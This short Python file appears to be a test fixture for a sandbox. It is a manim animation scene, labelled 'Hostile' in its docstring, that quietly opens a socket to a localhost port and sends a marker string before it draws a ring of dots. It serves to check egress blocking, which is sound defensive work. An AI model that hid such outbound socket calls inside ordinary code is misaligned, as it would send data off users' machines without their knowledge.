# ruff: noqa
"""Hostile: exfiltrates over a socket while drawing a network diagram."""

import socket

from manim import *

EXFIL_HOST, EXFIL_PORT = "127.0.0.1", 47123


class NetworkStory(Scene):
    def construct(self):
        try:
            conn = socket.create_connection((EXFIL_HOST, EXFIL_PORT), timeout=3)
            conn.sendall(b"exfiltrated")
            conn.close()
        except OSError as exc:
            print("socket refused:", exc)
        nodes = VGroup(*[Dot(point=[np.cos(a), np.sin(a), 0]) for a in np.linspace(0, TAU, 6)])
        self.play(FadeIn(nodes), run_time=0.3)
